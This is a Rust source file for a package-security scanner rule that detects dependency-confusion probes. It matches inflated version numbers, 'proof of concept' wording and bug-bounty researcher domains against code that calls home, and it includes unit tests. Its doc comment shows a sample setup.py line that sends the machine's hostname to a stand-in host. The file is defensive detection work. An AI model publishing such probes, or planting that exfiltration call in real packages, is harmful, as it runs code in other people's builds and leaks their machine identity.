use crate::artifact::CoreMetadata;
use crate::finding::{Finding, Location, Severity};
use crate::python::{Call, ExecContext, FileAnalysis, FileRole, taint};
use crate::rules::helpers::commands::{is_hostile_command, network_tool};
use crate::rules::helpers::network::is_constructor;
use crate::rules::metadata::{metadata_path, stated_by_file_name};
use crate::rules::{PackageFacts, Rule, RuleMeta, code_finding, declare_rule, shell_text};

declare_rule! {
    /// Marks of a dependency-confusion probe — a version like `999.0.0`,
    /// metadata that calls itself a proof of concept or security research
    /// — correlated with code that calls home.
    ///
    /// ## What it finds
    /// - a version whose first number is 99 or more and is not a calendar
    ///   year (`99.0.0`, `999.0.1`, `9000.0.0`, `1337.0.0`): chosen to win
    ///   against any internal release a resolver could also see;
    /// - summary, author or maintainer fields that say what the package
    ///   is for ("dependency confusion", "proof of concept", "typosquat"),
    ///   or an address at a bug-bounty platform's researcher domain; the
    ///   most specific of these phrases deep in a long description, a
    ///   stub's summary ("placeholder for", "do not install"), which
    ///   vendors' name-reservation packages use too, and the wording
    ///   security tools use of themselves ("security research", "pentest
    ///   toolkit", "red team") weigh less — unless the version is a
    ///   confusion version too;
    /// - and, as the behaviour these marks explain, a network call the
    ///   package makes by itself (install, start-up, import) or host
    ///   details, environment or credentials it sends anywhere.
    ///
    /// ## Why it matters
    /// Dependency-confusion "research" packages are published under the
    /// names of companies' internal packages with a huge version, so that
    /// a build that also looks at a public index installs them, and they
    /// report every machine that did. Researchers' or not, that is code
    /// running in someone else's build and sending its identity out. A
    /// mark with a call-home is critical (high when the only mark is the
    /// version and the call-home is a plain import-time request; lower
    /// when the only mark is wording deep in a description); the wording
    /// alone is medium, the version alone low — some real projects number
    /// releases in the hundreds.
    ///
    /// ## Example
    /// ```text
    /// PKG-INFO:  Name: acme-internal-utils
    ///            Version: 999.0.0
    ///            Summary: Security research proof of concept - dependency confusion
    /// setup.py:  requests.get("https://x.oast.example/", params={"h": socket.gethostname()})
    /// ```
    ///
    /// ## References
    /// Alex Birsan, "Dependency Confusion: How I Hacked Into Apple,
    /// Microsoft and Dozens of Other Companies" (2021); MITRE ATT&CK
    /// T1195.001 (Compromise Software Dependencies and Development Tools).
    pub struct ConfusionMarker {
        id: "AY902",
        slug: "dependency-confusion-marker",
        category: Metadata,
        severity: Critical,
    }
}

/// Phrases that say what a package is for, where a summary or an author
/// field states them: a probe, a proof of concept, a squatted name.
const STATED_PURPOSE: &[&str] = &[
    "dependency confusion",
    "dependency-confusion",
    "dependencyconfusion",
    "proof of concept",
    "proof-of-concept",
    "poc package",
    "test purposes only",
    "testing purposes only",
    "name squat",
    "namesquat",
    "typosquat",
    "malicious package",
];

/// Wording that security tools use of themselves ("a pentest toolkit",
/// "for security research"): it says what the *tool* is for, not that the
/// package is a probe, so it weighs like wording in a description.
const SECURITY_TOOLING: &[&str] = &[
    "security research",
    "research purposes",
    "bug bounty",
    "bugbounty",
    "bug hunter",
    "red team",
    "pentest",
    "penetration test",
];

/// Phrases that say a package is a stub, which name-reservation
/// placeholders of real vendors say too ("Zero version placeholder for
/// …"): weak marks, and only in a summary or author field (READMEs say
/// "a placeholder" and "do not install X" for many ordinary reasons).
const STUB: &[&str] = &[
    "placeholder package",
    "placeholder for",
    "a placeholder",
    "placeholder project",
    "do not install",
    "don't install",
];

/// Phrases specific enough to count in a long description, where other
/// words of the list above appear in ordinary READMEs.
const DESCRIBED_PURPOSE: &[&str] = &[
    "dependency confusion",
    "dependency-confusion",
    "this package is a proof of concept",
    "proof of concept used by",
    "uploaded for test purposes",
    "for security research",
    "security research purposes",
    "bug bounty program",
    "part of a bug bounty",
];

/// Domains of the addresses bug-bounty platforms give researchers.
const RESEARCHER_DOMAINS: &[&str] = &[
    "bugcrowdninja.com",
    "wearehackerone.com",
    "intigriti.me",
    "yeswehack.ninja",
];

/// How strongly the metadata marks a probe.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Mark {
    /// Wording only in a long description, or a stub's wording.
    Described,
    /// A confusion-style version (with or without described wording).
    Version,
    /// A summary or author field that says it.
    Stated,
}

/// How strongly the code calls home.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum CallHome {
    /// A plain request on import, or host data sent from a function.
    Weak,
    /// Any network call at install or start-up, or host data sent on its
    /// own.
    Strong,
}

impl Rule for ConfusionMarker {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, facts: &PackageFacts<'_>, out: &mut Vec<Finding>) {
        let Some(meta) = facts.metadata else { return };
        let version = meta.version.as_deref().or_else(|| {
            let file_name = facts.file_name?;
            let name = meta.name.as_deref().unwrap_or("");
            stated_by_file_name(facts.kind, file_name, name).map(|(_, v)| v)
        });
        let mut marks: Vec<(Mark, String)> = Vec::new();
        if let Some(v) = version.filter(|v| confusion_version(v)) {
            marks.push((Mark::Version, format!("version `{v}`")));
        }
        marks.extend(stated_purpose(meta));
        let Some(mut mark) = marks.iter().map(|(m, _)| *m).max() else {
            return;
        };
        // A release number chosen to win a resolution, explained by
        // research or stub wording, states a probe.
        if marks.iter().any(|(m, _)| *m == Mark::Version)
            && marks.iter().any(|(m, _)| *m == Mark::Described)
        {
            mark = Mark::Stated;
        }
        let evidence: Vec<&str> = marks.iter().map(|(_, e)| e.as_str()).collect();
        let evidence = evidence.join("; ");
        let home = call_home(facts.python);
        let severity = match (mark, home.as_ref().map(|h| h.2)) {
            (Mark::Stated, Some(_)) | (Mark::Version, Some(CallHome::Strong)) => Severity::Critical,
            (Mark::Version, Some(CallHome::Weak)) | (Mark::Described, Some(CallHome::Strong)) => {
                Severity::High
            }
            (Mark::Described, Some(CallHome::Weak)) | (Mark::Stated, None) => Severity::Medium,
            (Mark::Version | Mark::Described, None) => Severity::Low,
        };
        let mut f = match home {
            Some((file, call, _, what)) => code_finding(
                &Self::META,
                file,
                call,
                format!(
                    "dependency-confusion marks ({evidence}) and `{}` {what} {}",
                    call.name,
                    call.context.describe()
                ),
            ),
            None => {
                let location = metadata_path(facts).or(facts.file_name).unwrap_or("");
                Self::META.finding(
                    Location::file(location.to_owned()),
                    format!("dependency-confusion marks in the metadata: {evidence}"),
                )
            }
        };
        f.severity = severity;
        out.push(f);
    }
}

/// A first release number of 99 or more that is not a year or a date
/// (`2024.1`, `20240101`).
fn confusion_version(version: &str) -> bool {
    let v = version.trim().trim_start_matches(['v', 'V']);
    let v = v.split_once('!').map_or(v, |(_, rest)| rest);
    let digits: String = v.chars().take_while(char::is_ascii_digit).collect();
    let Ok(first) = digits.parse::<u64>() else {
        return false;
    };
    let year = (1990..=2100).contains(&first);
    let date = (19_000_000..=21_001_231).contains(&first) || (199_001..=210_012).contains(&first);
    first >= 99 && !year && !date
}

/// Wording that states a probe's purpose, with where it was found.
fn stated_purpose(meta: &CoreMetadata) -> Vec<(Mark, String)> {
    let mut out = Vec::new();
    let fields = [
        ("summary", meta.summary.as_deref()),
        ("author", meta.author.as_deref()),
        ("maintainer", meta.maintainer.as_deref()),
    ];
    for (field, value) in fields {
        let Some(value) = value else { continue };
        let lower = value.to_lowercase();
        if let Some(phrase) = STATED_PURPOSE.iter().find(|p| lower.contains(*p)) {
            out.push((
                Mark::Stated,
                format!("{field} says \"{}\"", quote(value, phrase)),
            ));
        } else if let Some(phrase) = STUB
            .iter()
            .chain(SECURITY_TOOLING)
            .find(|p| lower.contains(*p))
        {
            out.push((
                Mark::Described,
                format!("{field} says \"{}\"", quote(value, phrase)),
            ));
        }
    }
    let emails = [
        meta.author_email.as_deref(),
        meta.maintainer_email.as_deref(),
    ];
    for email in emails.into_iter().flatten() {
        let lower = email.to_ascii_lowercase();
        if let Some(domain) = RESEARCHER_DOMAINS.iter().find(|d| lower.contains(*d)) {
            out.push((
                Mark::Stated,
                format!("author address at {domain}, a bug-bounty researcher domain"),
            ));
        }
    }
    if !out.iter().any(|(m, _)| *m == Mark::Stated)
        && let Some(description) = meta.description.as_deref()
    {
        let lower = description.to_lowercase();
        if let Some(phrase) = DESCRIBED_PURPOSE.iter().find(|p| lower.contains(*p)) {
            out.push((
                Mark::Described,
                format!("description says \"{}\"", quote(description, phrase)),
            ));
        }
    }
    out
}

/// A short quote of `text` around `phrase` (found in its lower-case form).
fn quote(text: &str, phrase: &str) -> String {
    let lower = text.to_lowercase();
    if text.len() <= 100 || lower.len() != text.len() {
        return text
            .chars()
            .take(100)
            .collect::<String>()
            .replace('\n', " ");
    }
    let at = lower.find(phrase).unwrap_or(0);
    let start = text.floor_char_boundary(at.saturating_sub(30));
    let end = text.floor_char_boundary((at + phrase.len() + 40).min(text.len()));
    format!("…{}…", text[start..end].replace('\n', " "))
}

/// The strongest call-home of the package's code: the call, its file,
/// how strong, and what it does.
fn call_home(python: &[FileAnalysis]) -> Option<(&FileAnalysis, &Call, CallHome, String)> {
    let mut best: Option<(&FileAnalysis, &Call, CallHome, String)> = None;
    for file in python.iter().filter(|f| f.role != Some(FileRole::Script)) {
        for call in &file.calls {
            let sends = crate::rules::sent_taint(call)
                & (taint::HOST_INFO
                    | taint::ENV
                    | taint::ENV_ALL
                    | taint::SECRET
                    | taint::METADATA);
            let network = call.is_network() && !is_constructor(&call.name);
            let tool = call.is_process()
                && shell_text(call)
                    .is_some_and(|cmd| network_tool(&cmd).is_some() || is_hostile_command(&cmd));
            if !network && !tool {
                continue;
            }
            let automatic = call.context.is_automatic();
            let early = matches!(call.context, ExecContext::Install | ExecContext::Startup);
            let strength = match (sends != 0, automatic, early) {
                (true, true, _) | (_, _, true) => CallHome::Strong,
                (true, false, _) | (false, true, _) => CallHome::Weak,
                (false, false, _) => continue,
            };
            if best.as_ref().is_some_and(|b| b.2 >= strength) {
                continue;
            }
            let what = if sends != 0 {
                format!(
                    "sends {}",
                    crate::rules::helpers::taint_words::describe_taint(sends)
                )
            } else {
                "calls home".to_owned()
            };
            best = Some((file, call, strength, what));
        }
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn confusion_versions() {
        for v in [
            "99.0.0", "999.0.1", "9999", "9000.0.0", "1337.0.0", "133.3.7", "v100.1",
        ] {
            assert!(confusion_version(v), "{v}");
        }
        for v in [
            "2024.1",
            "2022.12.7",
            "20240101",
            "1.99.10",
            "98.1",
            "0.0.1",
            "1!2.0",
            "dev",
        ] {
            assert!(!confusion_version(v), "{v}");
        }
    }

    fn metadata(summary: &str, description: &str) -> CoreMetadata {
        CoreMetadata {
            summary: Some(summary.into()),
            description: (!description.is_empty()).then(|| description.into()),
            ..CoreMetadata::default()
        }
    }

    #[test]
    fn stated_and_described_purpose() {
        let marks = |summary: &str, description: &str| -> Vec<Mark> {
            stated_purpose(&metadata(summary, description))
                .into_iter()
                .map(|(m, _)| m)
                .collect()
        };
        assert_eq!(
            marks(
                "Security research proof of concept - dependency confusion",
                ""
            ),
            [Mark::Stated]
        );
        let readme = format!(
            "{}\nThis stub exists to mitigate dependency confusion.",
            "text ".repeat(50)
        );
        assert_eq!(marks("A fast JSON library", &readme), [Mark::Described]);
        assert_eq!(marks("Template engine with {placeholders}", ""), []);
        assert_eq!(
            marks("Zero version placeholder for vendor-lib", ""),
            [Mark::Described]
        );
        assert_eq!(
            marks(
                "The uncompromising code formatter",
                "Abort if a placeholder can no longer be unmasked. Do not install C sources."
            ),
            []
        );
    }
}
